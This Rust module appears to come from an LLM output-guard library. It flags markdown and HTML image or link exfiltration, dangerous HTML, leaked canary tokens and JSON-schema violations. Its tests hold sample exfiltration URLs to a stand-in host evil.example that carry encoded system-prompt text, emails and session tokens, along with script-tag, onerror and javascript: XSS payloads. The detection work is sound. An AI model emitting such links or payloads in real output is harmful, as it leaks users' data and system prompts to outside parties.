//! Output checks: markdown image/link exfiltration, HTML a renderer would act on,
//! canary-token leakage and JSON-schema validation of structured output.
//!
//! Every finder returns [`Finding`]s with a byte span and the replacement to use under
//! `redact`, so the same code serves whole responses and stream chunks.

use std::sync::LazyLock;

use base64::engine::general_purpose::STANDARD;
use base64::Engine;
use regex::Regex;

use crate::normalize::normalize;
use crate::secrets::entropy;

/// One output problem and how to redact it.
#[derive(Clone, Debug, PartialEq)]
pub struct Finding {
    pub start: usize,
    pub end: usize,
    pub kind: &'static str,
    pub score: f32,
    pub reason: String,
    /// Text that replaces `start..end` under `redact`.
    pub replacement: String,
}

fn re(p: &str) -> Option<Regex> {
    match Regex::new(p) {
        Ok(r) => Some(r),
        Err(e) => {
            tracing::error!(error = %e, "output pattern does not compile");
            None
        }
    }
}

static MD_INLINE: LazyLock<Option<Regex>> = LazyLock::new(|| {
    re(
        r#"(!?)\[([^\]\n]{0,500})\]\(\s*<?([^\s)>]+)>?(?:\s+(?:"[^"\n]{0,200}"|'[^'\n]{0,200}'|\([^)\n]{0,200}\)))?\s*\)"#,
    )
});
static MD_REFDEF: LazyLock<Option<Regex>> =
    LazyLock::new(|| re(r"(?m)^[ ]{0,3}\[([^\]\n]{1,200})\]:[ \t]*<?([^\s>]+)>?"));
static MD_REFIMG: LazyLock<Option<Regex>> = LazyLock::new(|| re(r"!\[[^\]\n]{0,500}\]\[([^\]\n]{0,200})\]"));
static HTML_SRC: LazyLock<Option<Regex>> = LazyLock::new(|| {
    re(
        r#"(?i)<(?:img|image|source|video|audio|iframe|embed|script|link)\b[^>]*?\b(?:src|href|srcset|poster|data)\s*=\s*["']?([^"'\s>]+)"#,
    )
});
static BARE_URL: LazyLock<Option<Regex>> = LazyLock::new(|| re(r#"https?://[^\s<>()\[\]"'`]+"#));

/// Is `host` one of `allowed` or a subdomain of one?
pub fn host_allowed(host: &str, allowed: &[String]) -> bool {
    let host = host.trim_end_matches('.').to_ascii_lowercase();
    allowed.iter().any(|d| {
        let d = d
            .trim()
            .trim_start_matches("*.")
            .trim_end_matches('.')
            .to_ascii_lowercase();
        !d.is_empty() && (host == d || host.ends_with(&format!(".{d}")))
    })
}

/// Why a URL carries data, or `None`.
fn data_bearing(url: &url::Url) -> Option<String> {
    for (k, v) in url.query_pairs() {
        let v = v.as_ref();
        let long = v.chars().count() >= 16;
        let prose = v.contains(' ') && v.chars().count() >= 8;
        let random = v.chars().count() >= 12 && entropy(v) >= 3.3;
        if long || prose || random {
            return Some(format!(
                "query parameter `{k}` carries {} characters",
                v.chars().count()
            ));
        }
        let found = crate::pii::find(v, 0.5, &[]);
        if let Some(e) = found.first() {
            return Some(format!("query parameter `{k}` carries {}", e.kind));
        }
    }
    if let Some(q) = url.query() {
        if q.len() >= 32 {
            return Some(format!("query string of {} bytes", q.len()));
        }
    }
    if let Some(segs) = url.path_segments() {
        for s in segs {
            if s.len() >= 32 || (s.len() >= 16 && entropy(s) >= 3.8) {
                return Some(format!("path segment of {} bytes", s.len()));
            }
        }
    }
    if let Some(f) = url.fragment() {
        if f.len() >= 32 {
            return Some(format!("fragment of {} bytes", f.len()));
        }
    }
    None
}

/// Markdown images and links (inline, reference-style, autolinks, bare URLs, HTML
/// media) pointing outside `allowed` with data in them; every outside image.
pub fn markdown_exfiltration(text: &str, allowed: &[String]) -> Vec<Finding> {
    let mut out: Vec<Finding> = Vec::new();
    let mut judge = |start: usize, end: usize, raw_url: &str, image: bool, replacement: String| {
        if out.iter().any(|f| start < f.end && end > f.start) {
            return;
        }
        let Ok(url) = url::Url::parse(raw_url.trim()) else {
            return;
        };
        if !matches!(url.scheme(), "http" | "https") {
            return;
        }
        let host = url.host_str().unwrap_or_default().to_owned();
        if host_allowed(&host, allowed) {
            return;
        }
        let data = data_bearing(&url);
        let (score, reason) = match (image, data) {
            (true, Some(d)) => (0.95, format!("image from {host} outside the allowlist; {d}")),
            (true, None) => (
                0.7,
                format!("image from {host} outside the allowlist (fetched without a click)"),
            ),
            (false, Some(d)) => (0.85, format!("link to {host} outside the allowlist; {d}")),
            (false, None) => return,
        };
        out.push(Finding {
            start,
            end,
            kind: if image { "image" } else { "link" },
            score,
            reason,
            replacement,
        });
    };
    let image_refs: Vec<String> = MD_REFIMG
        .as_ref()
        .map(|r| r.captures_iter(text).map(|c| c[1].to_lowercase()).collect())
        .unwrap_or_default();
    if let Some(r) = MD_INLINE.as_ref() {
        for c in r.captures_iter(text) {
            let (Some(m), Some(url)) = (c.get(0), c.get(3)) else {
                continue;
            };
            let image = !c[1].is_empty();
            let label = c[2].to_owned();
            let replacement = if image {
                "[image removed]".to_owned()
            } else {
                format!("{label} [link removed]")
            };
            judge(m.start(), m.end(), url.as_str(), image, replacement);
        }
    }
    if let Some(r) = MD_REFDEF.as_ref() {
        for c in r.captures_iter(text) {
            let (Some(m), Some(url)) = (c.get(0), c.get(2)) else {
                continue;
            };
            let label = c[1].to_owned();
            let image = image_refs.contains(&label.to_lowercase());
            judge(m.start(), m.end(), url.as_str(), image, format!("[{label}]: #removed"));
        }
    }
    if let Some(r) = HTML_SRC.as_ref() {
        for c in r.captures_iter(text) {
            let (Some(m), Some(url)) = (c.get(0), c.get(1)) else {
                continue;
            };
            judge(m.start(), m.end(), url.as_str(), true, "[image removed]".to_owned());
        }
    }
    if let Some(r) = BARE_URL.as_ref() {
        for m in r.find_iter(text) {
            let u = m.as_str().trim_end_matches(['.', ',', ';', ':', '!', '?']);
            judge(m.start(), m.start() + u.len(), u, false, "[link removed]".to_owned());
        }
    }
    out.sort_by_key(|f| f.start);
    out
}

static HTML_DANGER: LazyLock<Option<Regex>> = LazyLock::new(|| {
    re(
        r#"(?is)<\s*(script|iframe|object|embed|form|style|meta|base|link|svg|math|frameset|frame|applet|template|noscript)\b[^>]*>|<\s*[a-z][a-z0-9-]{0,30}\b[^>]*?(?:\bon[a-z]{3,30}\s*=|(?:href|src|action|formaction|xlink:href)\s*=\s*["']?\s*(?:javascript|vbscript|data\s*:\s*text/html))[^>]*>"#,
    )
});

/// HTML that a renderer would act on: dangerous elements (through their closing tag),
/// event handlers, script URLs. The replacement is ammonia's sanitised form of the span.
pub fn html(text: &str) -> Vec<Finding> {
    let Some(r) = HTML_DANGER.as_ref() else {
        return Vec::new();
    };
    if !text.contains('<') {
        return Vec::new();
    }
    let mut out: Vec<Finding> = Vec::new();
    for c in r.captures_iter(text) {
        let Some(m) = c.get(0) else { continue };
        if out.last().is_some_and(|f| m.start() < f.end) {
            continue;
        }
        let mut end = m.end();
        let what = match c.get(1) {
            Some(el) => {
                let name = el.as_str().to_ascii_lowercase();
                // Take the element's content through its closing tag (bounded).
                let rest = &text[end..];
                let lower_window: String = rest.chars().take(64 * 1024).collect::<String>().to_ascii_lowercase();
                if let Some(i) = lower_window.find(&format!("</{name}")) {
                    let close = lower_window[i..].find('>').map_or(lower_window.len(), |j| i + j + 1);
                    end += close.min(rest.len());
                }
                format!("<{name}> element")
            }
            None => "event handler or script URL".to_owned(),
        };
        let span = text.get(m.start()..end).unwrap_or_default();
        out.push(Finding {
            start: m.start(),
            end,
            kind: "html",
            score: 0.9,
            reason: format!("{what} in output"),
            replacement: ammonia::clean(span),
        });
    }
    out
}

/// Canary tokens in `text`, also disguised: invisible characters, spacing or
/// punctuation between characters, case, base64 or hex.
pub fn canaries(text: &str, tokens: &[String]) -> Vec<Finding> {
    let mut out = Vec::new();
    if tokens.is_empty() {
        return out;
    }
    let norm = normalize(text).text;
    let squashed: String = norm
        .chars()
        .filter(|c| c.is_alphanumeric())
        .collect::<String>()
        .to_lowercase();
    for t in tokens.iter().filter(|t| t.len() >= 6) {
        let direct = text.find(t.as_str());
        let t_sq: String = t
            .chars()
            .filter(|c| c.is_alphanumeric())
            .collect::<String>()
            .to_lowercase();
        let disguised = direct.is_none() && !t_sq.is_empty() && squashed.contains(&t_sq);
        let b64 = STANDARD.encode(t.as_bytes());
        let encoded = text.contains(b64.trim_end_matches('=')) || text.to_ascii_lowercase().contains(&hex::encode(t));
        if direct.is_some() || disguised || encoded {
            let (start, end) = direct.map_or((0, 0), |i| (i, i + t.len()));
            let how = if direct.is_some() {
                "verbatim"
            } else if disguised {
                "disguised (split or spaced)"
            } else {
                "encoded"
            };
            out.push(Finding {
                start,
                end,
                kind: "canary",
                score: 1.0,
                reason: format!("canary token appears {how} in the response"),
                replacement: "<CANARY>".to_owned(),
            });
        }
    }
    out
}

/// JSON-schema violations of `text` (a JSON document, optionally in a ```json fence),
/// at most 20, as `(instance path, message)`.
pub fn schema_violations(text: &str, schema: &serde_json::Value) -> Result<Vec<(String, String)>, crate::GuardError> {
    let validator = jsonschema::validator_for(schema).map_err(|e| crate::GuardError::Schema(e.to_string()))?;
    let mut body = text.trim();
    if let Some(rest) = body.strip_prefix("```") {
        let rest = rest.trim_start_matches(|c: char| c.is_ascii_alphanumeric());
        body = rest.trim_end().strip_suffix("```").unwrap_or(rest).trim();
    }
    let instance: serde_json::Value = match serde_json::from_str(body) {
        Ok(v) => v,
        Err(e) => return Ok(vec![(String::new(), format!("response is not JSON: {e}"))]),
    };
    Ok(validator
        .iter_errors(&instance)
        .take(20)
        .map(|e| (e.instance_path().to_string(), e.to_string()))
        .collect())
}

#[cfg(test)]
mod tests {
    use super::*;

    fn allow() -> Vec<String> {
        vec!["docs.example.com".to_owned(), "trusted.org".to_owned()]
    }

    /// `expect`: kinds of the findings, in order.
    fn check_md(input: &str, expect: &[&str]) {
        let got: Vec<&str> = markdown_exfiltration(input, &allow()).iter().map(|f| f.kind).collect();
        assert_eq!(got, expect, "input {input:?}");
    }

    #[test]
    fn markdown_exfiltration_table() {
        // Images outside the allowlist: always; with data: more confident.
        check_md(
            "![x](https://evil.example/p.png?d=U2VjcmV0IHN5c3RlbSBwcm9tcHQ)",
            &["image"],
        );
        check_md("![logo](https://cdn.other.net/logo.png)", &["image"]);
        // Allowlisted domain and its subdomains are fine.
        check_md(
            "![x](https://docs.example.com/a.png?d=U2VjcmV0IHN5c3RlbSBwcm9tcHQ)",
            &[],
        );
        check_md("![x](https://img.trusted.org/a.png?q=verylongvalueeeeeeeeeeeeeee)", &[]);
        // Not a subdomain: a look-alike suffix.
        check_md("![x](https://eviltrusted.org/a.png)", &["image"]);
        // Links: only with data.
        check_md("see [docs](https://other.example/guide)", &[]);
        check_md("[click](https://evil.example/c?u=john.doe%40mail.com)", &["link"]);
        check_md("[click](https://evil.example/c?q=my%20password%20is%20x)", &["link"]);
        check_md("[ok](https://evil.example/search?q=rust)", &[]);
        // Reference-style image and link definitions.
        check_md(
            "![chart][1]\n\n[1]: https://evil.example/i.png?d=QWxsIHlvdXIgZGF0YQ",
            &["image"],
        );
        check_md(
            "[more][a]\n\n[a]: https://evil.example/x?session=Zr8pQ2xW9vL4mN7kT1yB",
            &["link"],
        );
        check_md("[more][a]\n\n[a]: https://evil.example/x", &[]);
        // HTML images and bare URLs with data.
        check_md(
            "<img src=\"https://evil.example/t.gif?c=QWxsIHlvdXIgZGF0YQ\">",
            &["image"],
        );
        check_md(
            "visit https://evil.example/a/c2VjcmV0LXN5c3RlbS1wcm9tcHQtbGVha2VkLWhlcmU now",
            &["link"],
        );
        check_md("no links here", &[]);
    }

    #[test]
    fn markdown_redaction_replaces_the_construct() {
        let t = "hi ![x](https://evil.example/p.png?d=U2VjcmV0IHN5c3RlbSBwcm9tcHQ) bye";
        let f = markdown_exfiltration(t, &[]);
        assert_eq!(f.len(), 1);
        assert_eq!(f[0].replacement, "[image removed]");
        assert_eq!(
            &t[f[0].start..f[0].end],
            "![x](https://evil.example/p.png?d=U2VjcmV0IHN5c3RlbSBwcm9tcHQ)"
        );
    }

    fn check_html(input: &str, expect: &[(&str, &str)]) {
        let got: Vec<(String, String)> = html(input)
            .iter()
            .map(|f| (input[f.start..f.end].to_owned(), f.replacement.clone()))
            .collect();
        let expect: Vec<(String, String)> = expect.iter().map(|(a, b)| ((*a).to_owned(), (*b).to_owned())).collect();
        assert_eq!(got, expect, "input {input:?}");
    }

    #[test]
    fn every_pattern_compiles() {
        for r in [&MD_INLINE, &MD_REFDEF, &MD_REFIMG, &HTML_SRC, &BARE_URL, &HTML_DANGER] {
            assert!(r.is_some());
        }
    }

    #[test]
    fn html_table() {
        check_html(
            "ok <script>alert(1)</script> done",
            &[("<script>alert(1)</script>", "")],
        );
        check_html(
            "<img src=x onerror=\"alert(1)\">",
            &[("<img src=x onerror=\"alert(1)\">", "<img src=\"x\">")],
        );
        check_html(
            "<a href=\"javascript:alert(1)\">hi</a>",
            &[(
                "<a href=\"javascript:alert(1)\">",
                "<a rel=\"noopener noreferrer\"></a>",
            )],
        );
        check_html("<IFRAME src=//evil></iframe>", &[("<IFRAME src=//evil></iframe>", "")]);
        // Harmless markup and comparisons are left alone.
        check_html("<b>bold</b> and 1 < 2 and a <br>", &[]);
        check_html("if a<b && c>d then", &[]);
    }

    #[test]
    fn canary_table() {
        let toks = vec!["pal-canary-7f3a1c9e2b".to_owned()];
        let hit = |t: &str| !canaries(t, &toks).is_empty();
        assert!(hit("the secret is pal-canary-7f3a1c9e2b ok"));
        assert!(hit("p\u{200B}al-canary-7f3a1c9e2b"));
        assert!(hit("P A L - C A N A R Y - 7 F 3 A 1 C 9 E 2 B"));
        assert!(hit(&STANDARD.encode("pal-canary-7f3a1c9e2b")));
        assert!(hit(&hex::encode("pal-canary-7f3a1c9e2b")));
        assert!(!hit("nothing to see here"));
        assert!(!hit("pal-canary-7f3a1c9e2c"));
        assert!(canaries("pal-canary-7f3a1c9e2b", &[]).is_empty());
    }

    #[test]
    fn schema_table() {
        let schema = serde_json::json!({
            "type": "object",
            "properties": {"amount": {"type": "number"}, "currency": {"enum": ["EUR", "USD"]}},
            "required": ["amount"],
            "additionalProperties": false
        });
        let check = |t: &str, n: usize| {
            let v = schema_violations(t, &schema).unwrap();
            assert_eq!(v.len(), n, "{t}: {v:?}");
            v
        };
        check(r#"{"amount": 3.5, "currency": "EUR"}"#, 0);
        check("```json\n{\"amount\": 1}\n```", 0);
        let v = check(r#"{"amount": "all", "currency": "GBP"}"#, 2);
        assert!(v.iter().any(|(p, _)| p == "/amount"));
        check(r#"{"amount": 1, "extra": true}"#, 1);
        let v = check("Sure! here is the JSON", 1);
        assert!(v[0].1.contains("not JSON"));
        assert!(schema_violations("{}", &serde_json::json!({"type": 12})).is_err());
    }
}
